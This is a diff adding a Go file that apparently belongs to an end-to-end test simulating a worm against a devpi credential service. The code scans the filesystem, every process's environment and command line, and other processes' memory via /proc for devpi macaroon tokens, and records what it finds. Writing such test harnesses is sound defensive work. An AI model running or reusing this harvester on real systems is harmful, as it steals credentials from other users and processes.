@@ -1,0 +1,285 @@
+//go:build linux
+
+package main
+
+import (
+	"bufio"
+	"bytes"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"io"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strconv"
+	"strings"
+	"syscall"
+
+	"gopkg.in/macaroon.v2"
+
+	"github.com/devpi-credd/devpi-credd/e2e/worm/wormapi"
+	"github.com/devpi-credd/devpi-credd/token"
+)
+
+// Bounds of the scan: a worm reads what it can in a few seconds.
+const (
+	maxFileBytes   = 8 << 20
+	maxScanBytes   = 1 << 30 // files and memory together
+	maxProcMem     = 256 << 20
+	memChunk       = 1 << 20
+	chunkOverlap   = 8 << 10 // a token cut by a chunk's end is whole in the next
+	maxStartsTried = 16      // places within one run of base64 a token may start
+	maxBinaryToken = 8 << 10
+)
+
+// textToken matches a run of base64 that starts like a devpi token's
+// text: "devpi-" (optional, as devpi-server takes it) and a V2 macaroon,
+// whose first byte is 2 and second a location (1) or identifier (2)
+// field: "AgE" or "AgI". Standard base64's + and / too: a careless tool
+// may have re-encoded it.
+var textToken = regexp.MustCompile(`(?:devpi-)?Ag[EI][A-Za-z0-9_+/-]{20,}`)
+
+// collector keeps every distinct token seen, by the fingerprint of its
+// signature, with where it was seen.
+type collector struct {
+	found  map[string]*wormapi.Found
+	tokens map[string]*token.Token
+	order  []string
+	bytes  int64 // scanned so far, against maxScanBytes
+}
+
+func newCollector() *collector {
+	return &collector{found: map[string]*wormapi.Found{}, tokens: map[string]*token.Token{}}
+}
+
+func fingerprint(t *token.Token) string {
+	sum := sha256.Sum256(t.Signature())
+	return hex.EncodeToString(sum[:8])
+}
+
+// add records tok as seen at source and reports whether it is new.
+func (c *collector) add(tok *token.Token, source string) bool {
+	fp := fingerprint(tok)
+	if f, ok := c.found[fp]; ok {
+		if !slices.Contains(f.Sources, source) {
+			f.Sources = append(f.Sources, source)
+		}
+		return false
+	}
+	c.found[fp] = &wormapi.Found{Fingerprint: fp, User: tok.User(), ID: tok.ID(), Caveats: tok.Caveats(), Sources: []string{source}}
+	c.tokens[fp] = tok
+	c.order = append(c.order, fp)
+	return true
+}
+
+// scan looks for tokens in data, as text and as a binary macaroon, and
+// returns how many it saw (new or not).
+func (c *collector) scan(data []byte, source string) int {
+	n := 0
+	for _, m := range textToken.FindAllIndex(data, -1) {
+		if tok := fromText(data[m[0]:m[1]]); tok != nil {
+			c.add(tok, source)
+			n++
+		}
+	}
+	for _, marker := range [][]byte{{2, 1}, {2, 2}} {
+		for i := 0; ; {
+			j := bytes.Index(data[i:], marker)
+			if j < 0 {
+				break
+			}
+			i += j
+			if tok := fromBinary(data[i:min(len(data), i+maxBinaryToken)]); tok != nil {
+				c.add(tok, source)
+				n++
+			}
+			i++
+		}
+	}
+	return n
+}
+
+// fromText finds a token in a run of base64 that may hold more than the
+// token: strings in memory have no terminator, so the run can go on past
+// the token's end, or begin before it.
+func fromText(run []byte) *token.Token {
+	starts := []int{0}
+	for i := 1; i < len(run) && len(starts) < maxStartsTried; i++ {
+		if bytes.HasPrefix(run[i:], []byte("devpi-Ag")) || bytes.HasPrefix(run[i:], []byte("AgE")) || bytes.HasPrefix(run[i:], []byte("AgI")) {
+			starts = append(starts, i)
+		}
+	}
+	for _, s := range starts {
+		text := bytes.TrimPrefix(run[s:], []byte(token.Prefix))
+		if len(text)%4 == 1 {
+			text = text[:len(text)-1]
+		}
+		enc := base64.RawURLEncoding
+		if bytes.ContainsAny(text, "+/") {
+			enc = base64.RawStdEncoding
+		}
+		raw, err := enc.DecodeString(string(text))
+		if err != nil {
+			continue
+		}
+		if tok := fromBinary(raw); tok != nil {
+			return tok
+		}
+	}
+	return nil
+}
+
+// fromBinary reads a V2 macaroon at the start of raw, ignoring what
+// follows it, and returns it if it is a devpi token.
+func fromBinary(raw []byte) *token.Token {
+	var m macaroon.Macaroon
+	if err := m.UnmarshalBinary(raw); err != nil {
+		return nil
+	}
+	bin, err := m.MarshalBinary()
+	if err != nil {
+		return nil
+	}
+	tok, err := token.Parse(base64.RawURLEncoding.EncodeToString(bin))
+	if err != nil {
+		return nil
+	}
+	return tok
+}
+
+// scanFiles reads every regular file it may under roots, once each.
+func (w *worm) scanFiles(roots []string) {
+	seen := map[[2]uint64]bool{}
+	for _, root := range roots {
+		_ = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
+			if err != nil || !d.Type().IsRegular() || w.col.bytes >= maxScanBytes {
+				return nil // unreadable directories are skipped, not fatal
+			}
+			data, id, err := readRegular(path)
+			if err != nil || seen[id] {
+				return nil
+			}
+			seen[id] = true
+			w.rep.Files++
+			w.col.bytes += int64(len(data))
+			w.col.scan(data, "file:"+path)
+			return nil
+		})
+	}
+}
+
+// readRegular reads the start of a regular file without following a
+// link or blocking on a FIFO that took its name meanwhile.
+func readRegular(path string) ([]byte, [2]uint64, error) {
+	f, err := os.OpenFile(path, os.O_RDONLY|syscall.O_NOFOLLOW|syscall.O_NONBLOCK, 0)
+	if err != nil {
+		return nil, [2]uint64{}, err
+	}
+	defer f.Close()
+	st, err := f.Stat()
+	if err != nil || !st.Mode().IsRegular() {
+		return nil, [2]uint64{}, errors.New("not a regular file")
+	}
+	sys := st.Sys().(*syscall.Stat_t)
+	data, err := io.ReadAll(io.LimitReader(f, maxFileBytes))
+	return data, [2]uint64{sys.Dev, sys.Ino}, err
+}
+
+// pids lists the processes in /proc, but the worm's own.
+func pids() []int {
+	ents, _ := os.ReadDir("/proc")
+	var out []int
+	for _, e := range ents {
+		pid, err := strconv.Atoi(e.Name())
+		if err == nil && pid != os.Getpid() {
+			out = append(out, pid)
+		}
+	}
+	return out
+}
+
+// scanProcs reads every environ, cmdline and mem it can open.
+func (w *worm) scanProcs() {
+	for _, pid := range pids() {
+		dir := fmt.Sprintf("/proc/%d/", pid)
+		if data, err := os.ReadFile(dir + "environ"); err == nil {
+			w.rep.Environs++
+			w.col.scan(data, fmt.Sprintf("environ:%d", pid))
+		}
+		if data, err := os.ReadFile(dir + "cmdline"); err == nil {
+			w.rep.Cmdlines++
+			w.col.scan(data, fmt.Sprintf("cmdline:%d", pid))
+		}
+		if w.col.bytes < maxScanBytes {
+			if n, err := w.scanMem(pid); err == nil {
+				w.rep.Mems++
+				w.rep.MemBytes += n
+			}
+		}
+	}
+}
+
+// scanMem reads pid's readable mappings through /proc/PID/mem, in chunks
+// that overlap, up to maxProcMem.
+func (w *worm) scanMem(pid int) (int64, error) {
+	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
+	if err != nil {
+		return 0, err
+	}
+	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
+	if err != nil {
+		return 0, err
+	}
+	defer mem.Close()
+	source := fmt.Sprintf("mem:%d", pid)
+	var total int64
+	buf := make([]byte, chunkOverlap+memChunk)
+	sc := bufio.NewScanner(bytes.NewReader(maps))
+	for sc.Scan() && total < maxProcMem && w.col.bytes < maxScanBytes {
+		start, end, ok := readableRange(sc.Text())
+		if !ok {
+			continue
+		}
+		kept := 0 // bytes carried from the previous chunk, at buf's start
+		for addr := start; addr < end && total < maxProcMem; {
+			want := int(min(memChunk, end-addr))
+			n, _ := mem.ReadAt(buf[kept:kept+want], int64(addr))
+			if n <= 0 {
+				break // a page that cannot be read ends the mapping
+			}
+			w.col.scan(buf[:kept+n], source)
+			total += int64(n)
+			w.col.bytes += int64(n)
+			addr += uint64(n)
+			// A token across the chunk's end is whole in the next one.
+			have := kept + n
+			kept = min(chunkOverlap, have)
+			copy(buf, buf[have-kept:have])
+		}
+	}
+	return total, nil
+}
+
+// readableRange parses a /proc/PID/maps line; the kernel's own pages
+// (vvar, vsyscall) are not worth reading and can fault.
+func readableRange(line string) (start, end uint64, ok bool) {
+	fields := strings.Fields(line)
+	if len(fields) < 2 || fields[1][0] != 'r' {
+		return 0, 0, false
+	}
+	if len(fields) >= 6 && strings.HasPrefix(fields[5], "[v") {
+		return 0, 0, false
+	}
+	lo, hi, found := strings.Cut(fields[0], "-")
+	if !found {
+		return 0, 0, false
+	}
+	s, err1 := strconv.ParseUint(lo, 16, 64)
+	e, err2 := strconv.ParseUint(hi, 16, 64)
+	return s, e, err1 == nil && err2 == nil && e > s
+}
